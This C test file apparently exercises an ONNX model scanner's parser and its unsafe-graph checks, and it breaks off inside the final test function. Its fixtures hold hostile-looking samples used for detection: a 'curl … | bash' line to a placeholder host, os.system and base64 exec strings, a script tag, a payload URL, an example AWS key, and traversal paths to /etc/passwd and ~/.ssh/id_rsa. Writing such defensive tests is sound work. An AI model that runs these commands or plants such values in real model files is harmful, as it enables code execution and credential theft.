/* ONNX: every place where tensors, graphs and names can stand; every contradiction between them; the operators. */
#include "support/cm.h"

#include <stdio.h>
#include <stdlib.h>

#include "format/formats.h"
#include "scan/pipeline.h"
#include "support/events.h"
#include "support/pbmake.h"

/* A model around a piece of a graph, and with pieces of its own behind it. */
#define MODEL(graph, more) \
	"1:8 2'maker' 3'1.0' 7{ " graph " 2'g' 11{1'x' 2{1{1:1 2{1{1:4}1{2'n'}}}}} 12{1'y'} } 8{2:17} " more
#define RELU "1{1'x' 2'y' 4'Relu'} "
#define TENSOR(t) MODEL(RELU "5{ 8'w' " t " }", "")
#define EXTERNAL(t) TENSOR("1:4 2:1 14:1 " t)
#define F4 "9#00000000000000000000000000000000#"
#define NODE(n) MODEL("1{1'x' 2'y' " n "}", "")

static const struct row {
	const char *what, *text;
	enum gh_rc rc;
	bool gapless;
	const char *has, *hasnot;
} rows[] = {
	{ "a model", MODEL(RELU, ""), GH_OK, true, "call operation .Relu", "anomaly" },
	{ "its producer", MODEL(RELU, ""), GH_OK, true, "package generic \"maker\" \"1.0\"", NULL },
	{ "raw floats", TENSOR("1:4 2:1 " F4), GH_OK, true, "tensor \"w\" F32 [4]", "anomaly" },
	{ "packed dims", TENSOR("1#0202# 2:1 " F4), GH_OK, true, "tensor \"w\" F32 [2, 2]", "anomaly" },
	{ "scalar", TENSOR("2:7 7:5"), GH_OK, true, NULL, "anomaly" },
	{ "empty tensor", TENSOR("1:0 2:1"), GH_OK, true, NULL, "anomaly" },
	{ "packed floats", TENSOR("1:2 2:1 4#0000000000000000#"), GH_OK, true, "tensor \"w\" F32 [2]", "anomaly" },
	{ "floats one by one", TENSOR("1:2 2:1 4~1 4~2"), GH_OK, true, NULL, "anomaly" },
	{ "doubles", TENSOR("1:1 2:11 10#0000000000000000#"), GH_OK, true, "tensor \"w\" F64 [1]", "anomaly" },
	{ "complex", TENSOR("1:1 2:14 4#0000000000000000#"), GH_OK, true, "tensor \"w\" C64 [1]", "anomaly" },
	{ "int64", TENSOR("1:3 2:7 7#01ffffffffffffffffff0102#"), GH_OK, true, NULL, "anomaly" },
	{ "int8 as int32", TENSOR("1:3 2:3 5#010203#"), GH_OK, true, NULL, "anomaly" },
	{ "uint32 as uint64", TENSOR("1:1 2:12 11:7"), GH_OK, true, NULL, "anomaly" },
	{ "strings", TENSOR("1:2 2:8 6'a' 6'b'"), GH_OK, true, NULL, "anomaly" },
	{ "int4, raw", TENSOR("1:5 2:22 9#000000#"), GH_OK, true, "tensor \"w\" I4 [5]", "anomaly" },
	{ "int4, two in a value", TENSOR("1:5 2:22 5#010203#"), GH_OK, true, NULL, "anomaly" },
	{ "int2, raw", TENSOR("1:5 2:26 9#0000#"), GH_OK, true, "tensor \"w\" I2 [5]", "anomaly" },
	{ "bfloat16", TENSOR("1:2 2:16 9#00000000#"), GH_OK, true, "tensor \"w\" BF16 [2]", "anomaly" },
	{ "float8", TENSOR("1:2 2:17 9#0000#"), GH_OK, true, "tensor \"w\" F8_E4M3 [2]", "anomaly" },
	/* shapes */
	{ "overflow", TENSOR("1:1099511627776 1:1099511627776 2:1"), GH_OK, true, "GH-ONNX-0001", NULL },
	{ "overflow in bytes", TENSOR("1:1152921504606846976 2:1 " F4), GH_OK, true, "GH-ONNX-0001", NULL },
	{ "negative", TENSOR("1:-1 2:1 " F4), GH_OK, true, "GH-ONNX-0001", NULL },
	{ "negative beside zero", TENSOR("1:0 1:-4 2:1"), GH_OK, true, "GH-ONNX-0001", NULL },
	{ "too few bytes", TENSOR("1:5 2:1 " F4), GH_OK, true, "GH-ONNX-0002", "tensor \"w\" F32" },
	{ "too many bytes", TENSOR("1:3 2:1 " F4), GH_OK, true, "GH-ONNX-0002", NULL },
	{ "too few values", TENSOR("1:5 2:7 7#010203#"), GH_OK, true, "GH-ONNX-0002", NULL },
	{ "too few strings", TENSOR("1:5 2:8 6'x'"), GH_OK, true, "GH-ONNX-0002", NULL },
	{ "no data", TENSOR("1:5 2:1"), GH_OK, true, "GH-ONNX-0003", NULL },
	{ "type of the future", TENSOR("1:5 2:99 9#00#"), GH_OK, true, "GH-ONNX-0004", NULL },
	{ "no type", TENSOR("1:5 9#00#"), GH_OK, true, "GH-ONNX-0004", NULL },
	{ "impossible type", TENSOR("1:5 2:-2 9#00#"), GH_OK, true, "GH-ONNX-0005", NULL },
	{ "another type's field", TENSOR("1:1 2:1 7:5"), GH_OK, true, "GH-ONNX-0006", NULL },
	{ "two fields", TENSOR("1:4 2:1 4~1 " F4), GH_OK, true, "GH-ONNX-0006", NULL },
	{ "raw strings", TENSOR("1:4 2:8 " F4), GH_OK, true, "GH-ONNX-0006", NULL },
	{ "segment", TENSOR("1:4 2:1 3{1:0 2:2} " F4), GH_OK, true, "GH-ONNX-0013", NULL },
	{ "65 dimensions",
	  TENSOR("1#0101010101010101010101010101010101010101010101010101010101010101"
		 "010101010101010101010101010101010101010101010101010101010101010101# 2:1 9#00000000#"),
	  GH_OK, true, "GH-ONNX-0017", NULL },
	{ "a name twice", MODEL(RELU "5{8'w' 1:1 2:2 9#00#} 5{8'w' 1:1 2:2 9#01#}", ""), GH_OK, true, "GH-ONNX-0014",
	  NULL },
	{ "a name in two graphs",
	  MODEL("5{8'w' 1:1 2:2 9#00#} 1{1'x' 2'y' 4'If' 5{1'then_branch' 20:5 6{5{8'w' 1:1 2:2 9#01#}}}}", ""), GH_OK,
	  true, NULL, "anomaly" },
	/* external data */
	{ "external", EXTERNAL("13{1'location' 2'w.bin'} 13{1'offset' 2'4096'} 13{1'length' 2'16'}"), GH_OK, true,
	  "reference data \"w.bin\" from \"w\" data 4096+16", "anomaly" },
	{ "external, length by shape", EXTERNAL("13{1'location' 2'w.bin'}"), GH_OK, true, "data 0+16", "anomaly" },
	{ "external, prepacked", EXTERNAL("13{1'location' 2'w.bin'} 13{1'prepacked_0' 2'k|0;1;2'}"), GH_OK, true,
	  "reference data \"w.bin\"", "anomaly" },
	{ "value before key", EXTERNAL("13{2'w.bin' 1'location'}"), GH_OK, true, "reference data \"w.bin\"",
	  "anomaly" },
	{ "external in a constant", NODE("4'Constant' 5{1'value' 20:4 5{1:4 2:1 14:1 13{1'location' 2'../k'}}}"), GH_OK,
	  true, "reference data \"../k\"", "anomaly" },
	{ "external in a subgraph",
	  NODE("4'If' 5{1'then_branch' 20:5 6{5{8'v' 1:4 2:1 14:1 13{1'location' 2'../k'}}}}"), GH_OK, true,
	  "reference data \"../k\" from \"v\"", "anomaly" },
	{ "external in a function",
	  MODEL(RELU, "25{1'f' 10'd' 7{4'Constant' 5{1'value' 20:4 5{1:4 2:1 14:1 13{1'location' 2'../k'}}}}}"), GH_OK,
	  true, "reference data \"../k\"", NULL },
	{ "external in a function's attribute",
	  MODEL(RELU, "25{1'f' 10'd' 11{1'a' 20:4 5{1:4 2:1 14:1 13{1'location' 2'../k'}}}}"), GH_OK, true,
	  "reference data \"../k\"", NULL },
	{ "external in a training graph", MODEL(RELU, "20{1{5{8'v' 1:4 2:1 14:1 13{1'location' 2'../k'}}}}"), GH_OK,
	  true, "reference data \"../k\"", NULL },
	{ "external in sparse values",
	  MODEL(RELU "15{1{8'v' 1:4 2:1 14:1 13{1'location' 2'../k'}} 2{1:4 2:7 7#00010203#} 3:9}", ""), GH_OK, true,
	  "reference data \"../k\"", "anomaly" },
	{ "external in a sparse attribute",
	  NODE("4'Constant' 5{1'sparse_value' 20:11 22{1{1:4 2:1 14:1 13{1'location' 2'../k'}} 2{1:0 2:7} 3:9}}"),
	  GH_OK, true, "reference data \"../k\"", "anomaly" },
	{ "external in a list of tensors",
	  NODE("4'Odd' 5{1'v' 20:9 10{1:1 2:2 9#00#} 10{1:4 2:1 14:1 13{1'location' 2'../k'}}}"), GH_OK, true,
	  "reference data \"../k\"", "anomaly" },
	{ "inside and outside", EXTERNAL("13{1'location' 2'w.bin'} " F4), GH_OK, true, "GH-ONNX-0007", NULL },
	{ "negative offset", EXTERNAL("13{1'location' 2'w'} 13{1'offset' 2'-1'}"), GH_OK, true, "GH-ONNX-0008", NULL },
	{ "offset that is no number", EXTERNAL("13{1'location' 2'w'} 13{1'offset' 2'0x10'}"), GH_OK, true,
	  "GH-ONNX-0008", NULL },
	{ "empty length", EXTERNAL("13{1'location' 2'w'} 13{1'length' 2''}"), GH_OK, true, "GH-ONNX-0008", NULL },
	{ "length of 2^64", EXTERNAL("13{1'location' 2'w'} 13{1'length' 2'18446744073709551616'}"), GH_OK, true,
	  "GH-ONNX-0008", NULL },
	{ "sum that overflows", EXTERNAL("13{1'location' 2'w'} 13{1'offset' 2'9223372036854775800'}"), GH_OK, true,
	  "GH-ONNX-0008", NULL },
	{ "no location", EXTERNAL("13{1'offset' 2'0'}"), GH_OK, true, "GH-ONNX-0009", NULL },
	{ "no entries", EXTERNAL(""), GH_OK, true, "GH-ONNX-0009", NULL },
	{ "long location", EXTERNAL("13{1'location' 2*5000}"), GH_OK, true, "GH-ONNX-0009", NULL },
	{ "two locations", EXTERNAL("13{1'location' 2'w'} 13{1'location' 2'v'}"), GH_OK, true, "GH-ONNX-0010", NULL },
	{ "a strange key", EXTERNAL("13{1'location' 2'w'} 13{1'loader' 2'v'}"), GH_OK, true, "GH-ONNX-0011", NULL },
	{ "an attribute of Python", EXTERNAL("13{1'location' 2'w'} 13{1'__class__' 2'v'}"), GH_OK, true, "GH-ONNX-0020",
	  NULL },
	{ "not marked", TENSOR("1:4 2:1 13{1'location' 2'../w'} " F4), GH_OK, true, "GH-ONNX-0012", NULL },
	{ "not marked, followed all the same", TENSOR("1:4 2:1 13{1'location' 2'../w'} " F4), GH_OK, true,
	  "reference data \"../w\"", NULL },
	{ "length that does not fit the shape", EXTERNAL("13{1'location' 2'w'} 13{1'length' 2'8'}"), GH_OK, true,
	  "GH-ONNX-0002", NULL },
	{ "location 2", TENSOR("1:4 2:1 14:2 " F4), GH_OK, true, "GH-ONNX-0006", NULL },
	/* nodes */
	{ "attributes of all kinds",
	  NODE("4'Odd' 5{1'f' 20:1 2~1} 5{1'i' 20:2 3:1} 5{1's' 20:3 4's'} 5{1'fs' 20:6 7#00000000#} 5{1'is' 20:7 "
	       "8#0102#} "
	       "5{1'ss' 20:8 9'a' 9'b'} 5{1'tp' 20:13 14{1{1:1}}} 5{1'tps' 20:14 15{4{1{1{1:1}}}} 15{5{1:7 "
	       "2{1{1:1}}}}}"),
	  GH_OK, true, "operation .Odd", "anomaly" },
	{ "defaults beside the value", NODE("4'A' 5{1'i' 20:2 2~0 3:1 4''}"), GH_OK, true, NULL, "anomaly" },
	{ "attribute of another type", NODE("4'A' 5{1'i' 20:1 3:1}"), GH_OK, true, "GH-ONNX-0015", NULL },
	{ "attribute with two values", NODE("4'A' 5{1'i' 2~1 3:1}"), GH_OK, true, "GH-ONNX-0015", NULL },
	{ "attribute of no type", NODE("4'A' 5{1'i' 20:15 3:1}"), GH_OK, true, "GH-ONNX-0015", NULL },
	{ "reference with a value", NODE("4'A' 5{1'i' 20:2 21'up' 3:1}"), GH_OK, true, "GH-ONNX-0015", NULL },
	{ "node without operator", NODE(""), GH_OK, true, "GH-ONNX-0016", NULL },
	{ "a graph hidden behind another type", NODE("4'A' 5{1'i' 20:2 3:1 6{1{4'PyOp' 7'x'}}}"), GH_OK, true,
	  "operation x.PyOp", NULL },
	{ "own function",
	  MODEL("1{4'F' 7'mine'} 1{4'G' 7'mine'}", "25{1'F' 10'mine' 7{1'x' 2'y' 4'Relu'} 9{1'' 2:17}}"), GH_OK, true,
	  "call import mine.F", "operation mine.F" },
	{ "not an own function",
	  MODEL("1{4'F' 7'mine'} 1{4'G' 7'mine'}", "25{1'F' 10'mine' 7{1'x' 2'y' 4'Relu'} 9{1'' 2:17}}"), GH_OK, true,
	  "operation mine.G", "anomaly" },
	{ "a program in an attribute", NODE("4'A' 5{1'b' 20:3 4#80049505000000000000008c0161942e00ff00ff#}"), GH_OK,
	  true, "member \"b\" nested", "anomaly" },
	{ "metadata", MODEL(RELU, "14{1'task' 2'detect'}"), GH_OK, true, "text metadata \"task\" \"detect\"",
	  "anomaly" },
	{ "program text in metadata", MODEL(RELU, "14{1'hook' 2'import os; os.system(\"id\")'}"), GH_OK, true,
	  "GH-ONNX-0201", NULL },
	{ "a shell in metadata", MODEL(RELU, "14{1'setup' 2'curl http://a.example/x.sh | bash'}"), GH_OK, true,
	  "GH-ONNX-0202", NULL },
	{ "a page's script in a description", MODEL(RELU, "6'<script>alert(1)</script>'"), GH_OK, true, "GH-ONNX-0203",
	  NULL },
	{ "encoded program text", MODEL(RELU, "6'exec(__import__(\"base64\").b64decode(\"aW1wb3J0IG9z\"))'"), GH_OK,
	  true, "GH-ONNX-0204", NULL },
	{ "an address of a program", MODEL(RELU, "14{1'update' 2'http://a.example/payload.exe'}"), GH_OK, true,
	  "GH-ONNX-0205", NULL },
	{ "a credential",
	  MODEL(RELU,
		"14{1'k' 2'AKIAIOSFODNN7EXAMPLX aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'}"),
	  GH_OK, true, "GH-ONNX-0206", NULL },
	{ "lines of source on a node", NODE("4'Relu' 6'File \"m.py\", line 3, in run: exec(code, run_globals)'"), GH_OK,
	  true, "text documentation", "anomaly" },
	/* the graph as a graph */
	{ "not in order", MODEL("1{1'b' 2'y' 4'Neg'} 1{1'x' 2'b' 4'Neg'}", ""), GH_OK, true, NULL, "anomaly" },
	{ "a circle", MODEL("1{1'b' 2'a' 4'Neg'} 1{1'a' 2'b' 4'Neg'}", ""), GH_OK, true, "GH-ONNX-0022", NULL },
	{ "a node that feeds itself", MODEL("1{1'a' 2'a' 4'Neg'}", ""), GH_OK, true, "GH-ONNX-0022", NULL },
	{ "a circle in a function", MODEL(RELU, "25{1'F' 10'm' 7{1'b' 2'a' 4'Neg'} 7{1'a' 2'b' 4'Neg'}}"), GH_OK, true,
	  "GH-ONNX-0022", NULL },
	{ "a function that calls itself", MODEL(RELU, "25{1'F' 10'm' 7{1'x' 2'y' 4'F' 7'm'}}"), GH_OK, true,
	  "GH-ONNX-0023", NULL },
	{ "functions that call each other, in a subgraph and before they are known",
	  MODEL(RELU,
		"25{1'F' 10'm' 7{1'c' 4'If' 5{1'then_branch' 20:5 6{1{2'y' 4'G' 7'm'}}}}} 25{1'G' 10'm' 7{4'F' 7'm'}}"),
	  GH_OK, true, "GH-ONNX-0023 ", NULL },
	{ "a standard name that calls itself", MODEL(RELU, "25{1'Relu' 7{1'x' 2'y' 4'Relu' 7'ai.onnx'}}"), GH_OK, true,
	  "GH-ONNX-0023", NULL },
	{ "functions that call others",
	  MODEL(RELU, "25{1'F' 10'm' 7{4'G' 7'm'} 7{4'H' 7'm'}} 25{1'G' 10'm' 7{4'H' 7'm'}} "
		      "25{1'H' 10'm' 7{1'x' 2'y' 4'Relu'}}"),
	  GH_OK, true, NULL, "GH-ONNX-0023" },
	{ "a function that calls another overload",
	  MODEL(RELU, "25{1'F' 10'm' 13'a' 7{4'F' 7'm' 8'b'}} "
		      "25{1'F' 10'm' 13'b' 7{1'x' 2'y' 4'Relu'}}"),
	  GH_OK, true, NULL, "GH-ONNX-0023" },
	{ "a value twice", MODEL("1{1'x' 2'y' 4'Neg'} 1{1'x' 2'y' 4'Abs'}", ""), GH_OK, true, "GH-ONNX-0021", NULL },
	{ "outputs left out", MODEL("1{1'x' 2'' 2'y' 4'Neg'} 1{1'x' 2'' 4'Abs'}", ""), GH_OK, true, NULL, "anomaly" },
	{ "the same name in another graph",
	  MODEL("1{1'x' 2'y' 4'If' 5{1'then_branch' 20:5 6{1{1'x' 2'y' 4'Neg'}}}}", ""), GH_OK, true, NULL, "anomaly" },
	/* the message itself */
	{ "unknown field", MODEL(RELU, "99'what is this'"), GH_OK, true, "GH-ONNX-0101", NULL },
	{ "unknown field in a node", NODE("4'Relu' 77'what is this'"), GH_OK, true, "GH-ONNX-0101", NULL },
	{ "another wire type", NODE("4'Relu' 7:5"), GH_OK, true, "GH-ONNX-0102", NULL },
	{ "a group for a message", MODEL(RELU "5(8'w')", ""), GH_OK, true, "GH-ONNX-0102", NULL },
	{ "two operators", NODE("4'Relu' 4'PyOp'"), GH_OK, true, "GH-ONNX-0103", NULL },
	{ "two graphs", MODEL(RELU, "7{1{4'PyOp' 7'x'}}"), GH_OK, true, "GH-ONNX-0103", NULL },
	{ "two types in one", MODEL(RELU "11{1'v' 2{1{1:1} 4{1{1{1:1}}}}}", ""), GH_OK, true, "GH-ONNX-0103", NULL },
	{ "overlong", MODEL(RELU, "$2881808000$"), GH_OK, true, "GH-ONNX-0104", NULL },
	{ "overlong in a list", TENSOR("1:1 2:7 7#818000#"), GH_OK, true, "GH-ONNX-0104", NULL },
	{ "control characters", NODE("4'Relu\x01'"), GH_OK, true, "GH-ONNX-0105", NULL },
	{ "turned text", NODE("4'Relu' 3'a\xe2\x80\xaeop'"), GH_OK, true, "GH-ONNX-0105", NULL },
	{ "no UTF-8", NODE("4'Relu\xff'"), GH_OK, true, "GH-ONNX-0105", NULL },
	{ "no graph", "1:8 8{2:17}", GH_OK, true, "GH-ONNX-0018", NULL },
	{ "cut", "1:8 7{" RELU "} $3aff$", GH_E_MALFORMED, false, "operation .Relu", NULL },
	{ "a list cut short", TENSOR("1:1 2:1 4#0000#"), GH_E_MALFORMED, false, NULL, NULL },
	{ "a list that ends in a number", TENSOR("1:1 2:7 7#80#"), GH_E_MALFORMED, false, NULL, NULL },
};

static void every_row(void **st)
{
	(void)st;
	unsigned wrong = 0;
	for (size_t i = 0; i < GH_ROWS(rows); i++)
		for (int shaky = 0; shaky < 2; shaky++) {
			gh_auto_buf in = gh_buf(1 << 20);
			struct gh_events ev;
			gh_pb_make(&in, rows[i].text);
			gh_events_walk(&ev, &gh_fmt_onnx, gh_buf_view(&in), "x.onnx", shaky != 0);
			bool ok = ev.rc == rows[i].rc && ev.gapless == rows[i].gapless &&
				  (rows[i].has == NULL || gh_events_has(&ev, rows[i].has)) &&
				  (rows[i].hasnot == NULL || !gh_events_has(&ev, rows[i].hasnot));
			if (!ok)
				print_message("row \"%s\": rc %d (%s) gapless %d of %zu\n%s", rows[i].what, ev.rc,
					      ev.why, ev.gapless, in.n, gh_buf_cstr(&ev.log));
			wrong += !ok;
			gh_events_free(&ev);
		}
	assert_int_equal(wrong, 0);
}

/* Graphs in graphs in graphs end at a limit. */
static void nested(void **st)
{
	(void)st;
	gh_auto_buf in = gh_buf(1 << 20);
	gh_pb_make(&in, "1{4'Relu'}");
	for (unsigned i = 0; i < 60; i++) {
		gh_auto_buf out = gh_buf(1 << 20);
		gh_auto_buf hex = gh_buf(1 << 20);
		for (size_t k = 0; k < in.n; k++)
			gh_buf_fmt(&hex, "%02x", in.p[k]);
		gh_auto_buf text = gh_buf(1 << 20);
		gh_buf_fmt(&text, "1{4'If' 5{1'then_branch' 20:5 6#%s#}}", gh_buf_cstr(&hex));
		gh_pb_make(&out, gh_buf_cstr(&text));
		in.n = 0;
		gh_buf_put(&in, out.p, out.n);
	}
	gh_auto_buf model = gh_buf(1 << 20);
	gh_auto_buf hex = gh_buf(1 << 20);
	for (size_t k = 0; k < in.n; k++)
		gh_buf_fmt(&hex, "%02x", in.p[k]);
	gh_auto_buf text = gh_buf(1 << 20);
	gh_buf_fmt(&text, "1:8 7#%s# 8{2:13}", gh_buf_cstr(&hex));
	gh_pb_make(&model, gh_buf_cstr(&text));
	struct gh_events ev;
	gh_events_walk(&ev, &gh_fmt_onnx, gh_buf_view(&model), "x.onnx", true);
	assert_int_equal(ev.rc, GH_E_LIMIT);
	assert_true(gh_events_has(&ev, "GH-ONNX-0106"));
	gh_events_free(&ev);
}

/* More functions than are kept: said, and never silently defined. */
static void many(void **st)
{
	(void)st;
	gh_auto_buf in = gh_buf(8 << 20);
	gh_pb_make(&in, MODEL("1{4'Last' 7'd'}", ""));
	for (unsigned i = 0; i < 66000; i++) {
		char text[80];
		(void)snprintf(text, sizeof text, "25{1'f%u' 10'd'}", i);
		gh_pb_make(&in, text);
	}
	struct gh_events ev;
	gh_events_walk(&ev, &gh_fmt_onnx, gh_buf_view(&in), "x.onnx", false);
	assert_int_equal(ev.rc, GH_E_LIMIT);
	assert_true(gh_events_has(&ev, "GH-ONNX-0019"));
	assert_true(gh_events_has(&ev, "operation d.Last"));
	gh_events_free(&ev);
}

static void probes(void **st)
{
	(void)st;
	static const struct {
		const char *what, *text;
		enum gh_match want;
	} t[] = {
		{ "a model", MODEL(RELU, ""), GH_STRONG },
		{ "graph first", "7{" RELU "2'g'} 1:8 8{2:13}", GH_STRONG },
		{ "operator set first", "8{1'' 2:13} 7{" RELU "2'g'} 1:8", GH_STRONG },
		{ "no graph", "1:8 8{2:17}", GH_NO },
		{ "an empty graph", "1:8 7{} 8{2:17}", GH_NO },
		{ "a graph and no version", "7{" RELU "}", GH_NO },
		{ "a strange field among many", MODEL(RELU RELU RELU RELU, "99'x'"), GH_STRONG },
		{ "names that are no text", "1:8 2'a\x01' 7{1{1'x\xff' 4'Py\x01Op'}} 8{2:13}", GH_STRONG },
		{ "overlong numbers", "$08888000$ 7{1{4'PyOp'}} 8{2:13}", GH_STRONG },
		{ "strange fields only", "1:8 7{99'x' 98'y' 97'z'}", GH_NO },
		{ "text", "$68656c6c6f20776f726c640a$", GH_NO },
		{ "a tokenizer", "1{1'a' 2~0 3:2} 1{1'b' 2~1} 1{1'c' 2~1}", GH_NO },
		{ "another message", "1:1 2{1{1'serve'} 2{1{1'x'}}}", GH_NO },
	};
	unsigned wrong = 0;
	for (size_t i = 0; i < GH_ROWS(t); i++) {
		gh_auto_buf in = gh_buf(1 << 20);
		gh_pb_make(&in, t[i].text);
		struct gh_probe p = { gh_buf_view(&in), gh_buf_view(&in), in.n };
		enum gh_match m = gh_fmt_onnx.probe(&p);
		if (m != t[i].want)
			print_message("probe \"%s\": %d\n", t[i].what, m);
		wrong += m != t[i].want;
	}
	assert_int_equal(wrong, 0);
}

/* Every truncation and every damaged byte: an answer. */
static void damage(void **st)
{
	(void)st;
	gh_auto_buf in = gh_buf(1 << 20);
	gh_pb_make(&in, MODEL(RELU "5{8'w' 1:4 2:1 " F4 "} 5{8'v' 1:4 2:1 14:1 13{1'location' 2'v.bin'}}"
				   "1{1'x' 2'z' 4'If' 5{1'then_branch' 20:5 6{1{4'Neg'}}}}",
			      "14{1'k' 2'value'} 25{1'f' 10'd' 7{4'Relu'}}"));
	for (size_t n = 1; n < in.n; n++) {
		struct gh_events ev;
		gh_events_walk(&ev, &gh_fmt_onnx, (struct gh_span){ in.p, n }, "x.onnx", true);
		assert_true(ev.rc == GH_OK || ev.why[0] != '\0');
		gh_events_free(&ev);
	}
	for (size_t i = 0; i < in.n; i++)
		for (unsigned x = 1; x < 256; x <<= 1) {
			in.p[i] ^= (uint8_t)x;
			struct gh_events ev;
			gh_events_walk(&ev, &gh_fmt_onnx, gh_buf_view(&in), "x.onnx", (i & 1) != 0);
			assert_true(ev.rc != GH_OK || ev.gapless);
			gh_events_free(&ev);
			in.p[i] ^= (uint8_t)x;
		}
}

/* ---- verdicts: the reader and the check "onnx-graph" together ------------------------------------------------------- */

struct seen {
	enum gh_verdict worst;
	char ids[400];
};

static void on_finding(void *arg, const struct gh_rule *rule, struct gh_range at, bool ranged, const char *member,
		       const char *detail)
{
	struct seen *s = arg;
	(void)at, (void)ranged, (void)member, (void)detail;
	if (rule->effect > s->worst)
		s->worst = rule->effect;
	size_t n = strlen(s->ids);
	(void)snprintf(s->ids + n, sizeof s->ids - n, "%s ", rule->id);
}
static void on_times(void *arg, size_t i, uint64_t times) { (void)arg, (void)i, (void)times; }
static int on_spill(void *arg)
{
	(void)arg;
	return -1;
}

#define AT(path) EXTERNAL("13{1'location' 2'" path "'}")
static const struct verdict {
	const char *what, *text;
	enum gh_verdict worst;
	const char *id;
} verdicts[] = {
	{ "standard operators",
	  MODEL(RELU "1{4'Conv' 7'ai.onnx'} 1{4'ZipMap' 7'ai.onnx.ml'} 1{4'MatMulNBits' 7'com.microsoft'}", ""),
	  GH_CLEAN, "" },
	{ "operators of extensions", NODE("4'BertTokenizer' 7'ai.onnx.contrib'"), GH_CLEAN, "" },
	{ "weights beside", AT("model.onnx_data"), GH_CLEAN, "" },
	{ "weights below", AT("weights/w0.bin"), GH_CLEAN, "" },
	{ "out", AT("../secret"), GH_UNSAFE, "GH-OXG-0001" },
	{ "out and in again", AT("a/../b"), GH_UNSAFE, "GH-OXG-0001" },
	{ "absolute", AT("/etc/passwd"), GH_UNSAFE, "GH-OXG-0001" },
	{ "backslash", AT("a\\\\b"), GH_UNSAFE, "GH-OXG-0001" },
	{ "drive", AT("C:w.bin"), GH_UNSAFE, "GH-OXG-0001" },
	{ "share", AT("\\\\\\\\host\\\\w"), GH_UNSAFE, "GH-OXG-0001" },
	{ "address", AT("http://a.example/w"), GH_UNSAFE, "GH-OXG-0001" },
	{ "file address", AT("file:///etc/passwd"), GH_UNSAFE, "GH-OXG-0001" },
	{ "nothing", AT(""), GH_UNSAFE, "GH-OXG-0001" },
	{ "home", AT("~/.ssh/id_rsa"), GH_UNSAFE, "GH-OXG-0001" },
	{ "memory", AT("*/_ORT_MEM_ADDR_/*"), GH_UNSAFE, "GH-OXG-0001" },
	{ "NUL", EXTERNAL("13{1'location' 2#612f002e2e2f62#}"), GH_UNSAFE, "GH-OXG-0001" },
	{ "turned around",
	  AT("w\xe2\x80\xae"
	     "nib.bin"),
	  GH_REVIEW, "GH-OXG-0002" },
	{ "a domain of its own", NODE("4'Evil' 7'com.evil'"), GH_REVIEW, "GH-OXG-0003" },
	{ "no such operator", NODE("4'Evil'"), GH_REVIEW, "GH-OXG-0004" },
	{ "no such operator in a subgraph", NODE("4'If' 5{1'then_branch' 20:5 6{1{4'Evil'}}}"), GH_REVIEW,
	  "GH-OXG-0004" },
	{ "Python", NODE("4'PythonOp' 7'com.microsoft'"), GH_UNSAFE, "GH-OXG-0005" },
	{ "Python, otherwise", NODE("4'PyOp' 7'pyopmulti_2'"), GH_UNSAFE, "GH-OXG-0005" },
	{ "Python by attributes", NODE("4'Run' 7'acme' 5{1'module' 20:3 4'os'} 5{1'class_name' 20:3 4'x'}"), GH_UNSAFE,
	  "GH-OXG-0005" },
	{ "Python in a function", MODEL(RELU, "25{1'F' 10'm' 7{4'PyCustomOp' 7'ai.onnx.contrib'}}"), GH_UNSAFE,
	  "GH-OXG-0005" },
	{ "pyramids are no Python", NODE("4'PyramidRoiAlign' 7'acme'"), GH_REVIEW, "GH-OXG-0003" },
	{ "a service", NODE("4'AzureTextToText' 7'com.microsoft.extensions'"), GH_UNSAFE, "GH-OXG-0006" },
	{ "fallback", NODE("4'ATen' 7'org.pytorch.aten' 5{1'operator' 20:3 4'from_file'}"), GH_REVIEW, "GH-OXG-0007" },
	{ "an engine", NODE("4'EPContext' 7'com.microsoft'"), GH_REVIEW, "GH-OXG-0008" },
	{ "an engine in a file elsewhere",
	  NODE("4'EPContext' 7'com.microsoft' 5{1'embed_mode' 20:2 3:0} 5{1'ep_cache_context' 20:3 "
	       "4'../../etc/x.bin'}"),
	  GH_UNSAFE, "GH-OXG-0001" },
	{ "the same, written from the end",
	  NODE("5{4'/etc/x.bin' 20:3 1'ep_cache_context'} 5{3:0 20:2 1'embed_mode'} 7'com.microsoft' 4'EPContext'"),
	  GH_UNSAFE, "GH-OXG-0001" },
	{ "an engine in a file beside",
	  NODE("4'EPContext' 7'com.microsoft' 5{1'embed_mode' 20:2 3:0} 5{1'ep_cache_context' 20:3 4'x_ctx.bin'}"),
	  GH_REVIEW, "GH-OXG-0008" },
	{ "an engine in the node",
	  NODE("4'EPContext' 7'com.microsoft' 5{1'embed_mode' 20:2 3:1} 5{1'ep_cache_context' 20:3 4'/\x01\x02'}"),
	  GH_REVIEW, "GH-OXG-0008" },
	{ "own function", MODEL("1{4'F' 7'mine'}", "25{1'F' 10'mine' 7{1'x' 2'y' 4'Relu'}}"), GH_CLEAN, "" },
	{ "shadow", MODEL(RELU, "25{1'Relu' 10'' 7{1'x' 2'y' 4'Neg'}}"), GH_REVIEW, "GH-OXG-0009" },
};

static void judged(void **st)
{
	(void)st;
	unsigned wrong = 0;
	for (size_t i = 0; i < GH_ROWS(verdicts); i++) {
		gh_auto_buf in = gh_buf(1 << 20);
		struct seen s = { 0 };
		struct gh_pipe_host host = { .arg = &s, .finding = on_finding, .times = on_times, .spill = on_spill };
		struct gh_limits lim = gh_limits_default;
		struct gh_src_mem mem;
		struct gh_pipe_result r;
		gh_pb_make(&in, verdicts[i].text);
		struct gh_pipe *p = gh_pipe_new(&lim, &host);
		assert_non_null(p);
		gh_pipe_run(p, gh_src_mem(&mem, gh_buf_view(&in)), gh_span_str("m.onnx"), &r);
		gh_pipe_free(p);
		bool ok = s.worst == verdicts[i].worst && strstr(s.ids, verdicts[i].id) != NULL &&
			  strcmp(r.format, "onnx") == 0;
		if (!ok)
			print_message("\"%s\": %d %s (%s)\n", verdicts[i].what, (int)s.worst, s.ids, r.format);
		wrong += !ok;
	}
	assert_int_equal(wrong, 0);
}

static void samples(void **st)
{
	(void)st;
	static const struct {
		const char *path, *has, *hasnot;
	} t[] = {
		{ "models/onnx/silero_vad_v5.onnx", "operation .If", "anomaly" },
		{ "models/onnx/ch_ppocr_mobile_v2.0_cls_infer.onnx", "operation .Conv", "anomaly" },
		{ "corpus/benign/onnx/onnx-004.onnx", "operation .Transpose", "anomaly" },
		{ "corpus/malicious/onnx/onnx-005.onnx", "GH-ONNX-0001", NULL },
	};
	for (size_t i = 0; i < GH_ROWS(t); i++) {
		char path[256];
		(void)snprintf(path, sizeof path, "../shared/%s", t[i].path);
		struct gh_span in = gh_test_file(path);
